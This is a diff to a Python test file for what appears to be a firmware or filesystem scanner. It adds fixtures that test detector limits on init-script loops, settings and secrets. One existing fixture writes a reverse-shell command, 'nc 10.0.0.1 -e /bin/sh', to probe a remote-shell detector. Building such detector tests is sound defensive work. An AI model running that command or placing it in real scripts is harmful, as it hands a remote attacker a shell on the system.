@@ -179,6 +179,12 @@ def block(label, count):
     return (b"-----BEGIN %s-----\n" % label + base64.b64encode(bytes(range(30))) + b"\n-----END %s-----\n" % label) * count
 
 
+def loop(pattern, count):
+    """A loop over files, the last of whose lines runs them."""
+    return b"#!/bin/sh\nfor i in " + pattern + b"; do\n" + b"\techo $i\n" * (count - 1) + b"\t$i start\ndone\n"
+
+
+RUN_ALL = "SELECT count(*) FROM setting WHERE name LIKE '% all of'"
 CONF, SCRIPT, SBIN = "etc/app.conf", "etc/init.d/app", "usr/sbin/app"
 EVERY = "SELECT count(*) FROM %s f JOIN file p ON p.id = f.file WHERE p.path LIKE '%%%s'"
 # name: (recipe, most that is read, code, what of it, how much is left out above, query, its answers on both sides)
@@ -204,6 +210,12 @@ LIMITS = {
     "calls of scripts": (chain, 63, "services.chain", "sight", None, None, None),
     "a line that hands out a shell": (root(SCRIPT, lambda size: b"#!/bin/sh\nnc" + (b" 10.0.0.1" * 2000)[:size - 2] + b" -e /bin/sh\n"), 16374,
                                       "remote-shells.line", "search", None, None, None),
+    "lines of a loop": (root("etc/init.d/rcS", lambda count: loop(b"/etc/rc.d/S*", count)), 256, "services.folders", "search", None,
+                        RUN_ALL, ("1", "0")),
+    "bytes of a pattern": (root("etc/init.d/rcS", lambda size: loop(b"/etc/" + b"x" * (size - 6) + b"*", 1)), 128, "services.folders",
+                           "search", None, RUN_ALL, ("1", "0")),
+    "stars of a pattern": (root("etc/init.d/rcS", lambda count: loop(b"/etc/x" + b"*y" * count, 1)), 3, "services.folders", "search", None,
+                           RUN_ALL, ("1", "0")),
     "settings": (root("etc/sysctl.conf", lines(b"net.x%d=1\n")), 10000, "facts.setting", "facts", 1,
                  EVERY % ("setting", "sysctl.conf"), ("10000", "10000")),
     "secrets": (root(CONF, lines(b"password%d=Wq8zk2Lp\n")), 200, "facts.secret", "facts", 1, EVERY % ("secret", CONF), ("200", "200")),
